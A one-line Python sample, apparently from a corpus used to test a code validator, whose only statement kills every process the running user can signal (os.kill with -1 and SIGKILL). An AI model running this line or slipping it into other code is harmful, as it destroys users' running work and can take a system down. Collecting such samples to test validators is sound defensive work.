# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os
import signal

os.kill(-1, signal.SIGKILL)
